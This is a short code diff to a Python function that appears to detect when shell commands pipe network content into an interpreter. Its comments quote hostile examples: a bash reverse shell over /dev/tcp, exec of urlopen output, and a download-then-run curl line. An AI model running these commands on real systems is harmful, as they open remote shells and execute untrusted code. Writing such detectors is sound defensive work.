@@ -363,6 +363,8 @@ def _flows(raws: Sequence[cmds.Raw], out: Sequence[Command], home: str) -> tuple
             for j in _closure(raws, raw.inner):
                 if _network(out[j], raws[j]):
                     flows.append(Flow(out[j].program, "interpreter"))
+            if raw.runs_fetched:  # bash -i >& /dev/tcp/host/port 0>&1; exec(urlopen(u).read())
+                flows.append(Flow("network", "interpreter"))
             for p in c.reads:  # curl -o i.sh URL && sh i.sh
                 if p.path in downloaded:
                     flows.append(Flow(downloaded[p.path], "interpreter"))
